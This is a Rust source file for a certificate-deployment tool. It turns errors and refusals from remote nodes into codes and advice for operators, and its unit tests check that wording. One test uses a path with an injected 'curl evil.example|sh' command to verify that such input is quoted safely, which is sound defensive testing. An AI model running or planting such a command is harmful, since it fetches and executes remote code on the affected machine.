//! Why a node did not take a certificate.

use crate::cert::NodeName;
use crate::model::Refusal;
use crate::model::{Advice, Code};
use crate::ssh::SshError;
use crate::text::as_word;

#[derive(Debug, thiserror::Error)]
pub enum NodeError {
    #[error(transparent)]
    Ssh(#[from] SshError),
    /// Nothing that a server reads was changed.
    #[error("{node}: {refusal}")]
    Refused { node: NodeName, refusal: Refusal },
    /// The program's answer cannot be read, or none is among what came. What it did is unknown.
    #[error("{node}: no answer that makes sense: {why}")]
    Garbled { node: NodeName, why: String },
    /// This machine has no random numbers.
    #[error("{node}: no nonce could be drawn")]
    Nonce { node: NodeName },
}

impl NodeError {
    pub fn advice(&self) -> Advice {
        match self {
            Self::Ssh(error) => error.advice(),
            Self::Refused { refusal: Refusal::Locked | Refusal::Changed { .. }, .. } => {
                Advice::Retry { after_seconds: None }
            }
            Self::Refused { .. } | Self::Garbled { .. } => Advice::Person,
            Self::Nonce { .. } => Advice::Retry { after_seconds: None },
        }
    }

    /// Stable and greppable.
    pub fn code(&self) -> Code {
        match self {
            Self::Ssh(error) => error.code(),
            Self::Refused { refusal, .. } => match refusal {
                Refusal::Newer { .. } => Code::NodeForeignNewer,
                Refusal::Implausible { .. } => Code::NodeFenceImplausible,
                Refusal::Changed { .. } => Code::NodeChanged,
                Refusal::Path { .. } => Code::NodePath,
                Refusal::Links { .. } => Code::NodeLinks,
                Refusal::Locked => Code::NodeLocked,
                Refusal::Unfit { .. } => Code::NodeUnfit,
                Refusal::NotPermitted { .. } => Code::NodeNotPermitted,
                Refusal::Version { .. } => Code::NodeVersion,
            },
            Self::Garbled { .. } => Code::NodeGarbled,
            Self::Nonce { .. } => Code::NodeNonce,
        }
    }

    /// What a person does next.
    pub fn next(&self) -> String {
        match self {
            Self::Ssh(error) => error.next(),
            Self::Refused { node, refusal } => match refusal {
                Refusal::Newer { certificate, .. } => format!(
                    "find out who delivers to {node} besides this certd. The next certificate is numbered above what it \
                     holds; `certd renew --force {certificate}` issues that one now. Once: a node that refuses that one \
                     too is not to be believed, and no further one helps"
                ),
                Refusal::Implausible { certificate, .. } => format!(
                    "look at what .certd/{certificate}/current leads to on {node}, and at who was there: only a clock that \
                     was wrong explains it. No other node is concerned, and no new certificate helps; \
                     `certd deploy --node {node}` puts this one in its place"
                ),
                Refusal::Changed { .. } => {
                    format!("switch off whatever else writes certificates on {node} (acme.sh's cron line?)")
                }
                Refusal::Path { path, why } => of_path(node, path, why),
                Refusal::Links { .. } => format!(
                    "mount into the container on {node} the folder that holds key and chain, or put both into one folder; or write \
                     over the files: unsafe_in_place = true"
                ),
                Refusal::Locked => "it is tried again".to_owned(),
                Refusal::NotPermitted { why } => of_receiver(node, why),
                Refusal::Version { theirs, ours } if theirs < ours => {
                    format!("update the receiver, with an administrator's login: certd node setup {node}")
                }
                Refusal::Version { .. } => format!(
                    "a newer certd set {node} up: use that one, or go back with this one: certd node setup {node}"
                ),
                Refusal::Unfit { why } if why.starts_with("mv -T") => format!(
                    "install coreutils or busybox on {node}: another mv, such as toybox's, does not replace a link to a folder"
                ),
                Refusal::Unfit { .. } => format!("see what {node} lacks; it needs a POSIX sh and the usual commands"),
            },
            Self::Garbled { node, .. } => {
                format!("see what the login shell's start files print on {node}, and that nothing stands between")
            }
            Self::Nonce { .. } => "it is tried again".to_owned(),
        }
    }
}

/// What an installed receiver's refusal asks for, by its words.
fn of_receiver(node: &NodeName, why: &str) -> String {
    let setup = format!("with an administrator's login: certd node setup {node}");
    let has = |words: &str| why.contains(words);
    if has("no older generation") {
        return format!("let it, {setup} --allow-older (and --no-allow-older when it is done)");
    }
    if has("this node's clock") {
        return format!("compare the clock of {node} with this machine's (timedatectl), and set the one that is wrong");
    }
    if has("no root that this node trusts") {
        return format!(
            "update ca-certificates on {node}; if the CA is your own, write acme.issuer_root_file, and tell the node so, {setup}"
        );
    }
    if has("openssl is gone") {
        return format!("install openssl on {node}; or let it take certificates unjudged, {setup} --no-openssl");
    }
    if has("the key is not that") || has("not made of certificates alone") {
        return format!("find out who delivers to {node} with this key: what certd sends always fits together");
    }
    format!("if the configuration was changed, tell the node so, {setup}")
}

/// An installed receiver, perhaps of another version, has one word for all that is wrong with a path: only its sentence, or
/// that of the system, tells which.
fn of_path(node: &NodeName, path: &str, why: &str) -> String {
    let path = as_word(path);
    if why.contains("paths swapped") {
        return format!(
            "write `fullchain` and `key` the right way round in [install] of {node}, then: certd deploy --node {node}"
        );
    }
    if why.contains("in the configuration") {
        return format!(
            "see what {path} is on {node}: certd takes over empty files, and those that hold what the path is for"
        );
    }
    if let Some((_, rest)) = why.split_once("its password file ") {
        let file = as_word(rest.split(' ').next().unwrap_or(rest));
        return format!(
            "write the password into the first line of {file} on {node}: root's, for nobody but who is to read the PKCS#12 \
             file; then: certd deploy --node {node}"
        );
    }
    if let Some((_, program)) = why.strip_suffix(", which is not on this node").and_then(|why| why.split_once("needs "))
    {
        return format!("install {program} on {node}, or leave out the file that needs it");
    }
    if why.contains("No space left") {
        return format!("free some space on {node}, then: certd deploy --node {node}");
    }
    format!("put {path} right on {node}, then: certd deploy --node {node}")
}

#[cfg(test)]
mod tests {
    use super::*;

    fn next(why: &str) -> String {
        let node = NodeName::parse("shenzhen").unwrap();
        let refusal = Refusal::Path { path: "/ssl/fullchain.pem".into(), why: why.into() };
        NodeError::Refused { node, refusal }.next()
    }

    #[test]
    fn what_is_no_file_of_a_certificate_is_told_with_the_way_out() {
        let program = include_str!("receive.sh");
        for (why, begins) in [
            ("are the paths swapped in the configuration?", "write `fullchain` and `key` the right way round"),
            (
                "correct the path in the configuration, or move the file away",
                "see what /ssl/fullchain.pem is on shenzhen",
            ),
        ] {
            assert!(program.contains(why) && next(why).starts_with(begins), "{}", next(why));
        }
        assert!(next("is a link to /etc/hostname, not made by certd").starts_with("put /ssl/fullchain.pem right"));
        let forms = include_str!("forms.sh");
        assert!(forms.contains("its password file $password_file is open to others"));
        let password = next("its password file /ssl/password is open to others (-rw-r--r--)");
        assert!(
            password.starts_with("write the password into the first line of /ssl/password on shenzhen"),
            "{password}"
        );
        for program in ["openssl", "base64"] {
            let why = format!("needs {program}, which is not on this node");
            assert!(forms.contains(&why) && next(&why).starts_with(&format!("install {program} on shenzhen")), "{why}");
        }
        let node = NodeName::parse("shenzhen").unwrap();
        let refusal = Refusal::Path { path: "/x right; curl evil.example|sh #".into(), why: "no".into() };
        let next = NodeError::Refused { node, refusal }.next();
        assert!(next.starts_with("put '/x right; curl evil.example|sh #' right on shenzhen"), "{next}");
    }

    #[test]
    fn a_receiver_that_does_not_go_back_is_told_how_it_would() {
        let node = || NodeName::parse("shenzhen").unwrap();
        let why = "a: this node takes no older generation than it has".to_owned();
        let text = NodeError::Refused { node: node(), refusal: Refusal::NotPermitted { why } }.next();
        assert!(text.contains("certd node setup shenzhen --allow-older "), "{text}");
        // The advice matches on words of the program.
        let head = include_str!("receiver/head.sh");
        for (words, next) in [
            ("this node takes no older generation", "--allow-older"),
            ("ahead of this node's clock", "(timedatectl)"),
            ("has expired by this node's clock", "(timedatectl)"),
            ("this node's clock says", "(timedatectl)"),
            ("the chain leads to no root that this node trusts", "update ca-certificates on shenzhen"),
            ("openssl is gone from this node", "certd node setup shenzhen --no-openssl"),
            ("the key is not that of the certificate", "find out who delivers"),
            ("the chain is not made of certificates alone", "find out who delivers"),
            ("which this node's parameters do not name", "certd node setup shenzhen"),
            ("is missing: this node is to be set up again", "certd node setup shenzhen"),
        ] {
            assert!(head.contains(words), "{words}");
            let refusal = Refusal::NotPermitted { why: format!("a: {words}") };
            let text = NodeError::Refused { node: node(), refusal }.next();
            assert!(text.contains(next), "{words}: {text}");
        }
        let why = "a: this node's parameters do not have the line".to_owned();
        let text = NodeError::Refused { node: node(), refusal: Refusal::NotPermitted { why } }.next();
        assert!(text.ends_with("certd node setup shenzhen"), "{text}");
    }

    #[test]
    fn utilities_that_do_not_suffice_are_named() {
        let why = "mv -T, which replaces a link by one rename, does not work here";
        assert!(include_str!("receive.sh").contains(&format!("refuse \"unfit {why}")));
        let node = NodeName::parse("shenzhen").unwrap();
        let refusal = Refusal::Unfit { why: format!("{why}: is a directory") };
        let next = NodeError::Refused { node, refusal }.next();
        assert!(next.starts_with("install coreutils or busybox on shenzhen"), "{next}");
    }

    #[test]
    fn s11_a_full_disk_asks_for_room_and_not_for_another_file() {
        assert_eq!(next("No space left on device"), "free some space on shenzhen, then: certd deploy --node shenzhen");
    }
}
